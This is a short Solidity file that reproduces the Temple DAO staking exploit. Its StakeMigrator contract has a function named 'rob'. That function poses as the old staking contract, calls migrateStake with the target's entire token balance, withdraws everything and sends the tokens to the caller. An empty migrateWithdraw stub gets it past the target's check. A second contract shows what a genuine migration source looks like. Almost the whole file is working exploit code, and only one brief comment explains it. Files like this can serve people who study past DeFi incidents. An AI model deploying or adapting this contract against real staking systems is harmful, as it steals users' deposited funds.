// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IStaking {
    function migrateStake(address oldStaking, uint256 amount) external;
    function withdrawAll(bool claim) external;
}

interface IERC20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Temple DAO: says of itself that it is the old staking contract, migrates a stake that nobody had, and withdraws it.
contract StakeMigrator {
    function rob(address staking, address token) external {
        IStaking(staking).migrateStake(address(this), IERC20(token).balanceOf(staking));
        IStaking(staking).withdrawAll(false);
        IERC20(token).transfer(msg.sender, IERC20(token).balanceOf(address(this)));
    }

    function migrateWithdraw(address, uint256) external {}
}

/// What stake is really migrated from: it hands over the staker's tokens.
contract FormerStaking {
    function migrateWithdraw(address, uint256 amount) external {
        (bool known, bytes memory answer) = msg.sender.staticcall(abi.encodeWithSignature("stakingToken()"));
        require(known, "who migrates?");
        IERC20(abi.decode(answer, (address))).transfer(msg.sender, amount);
    }
}
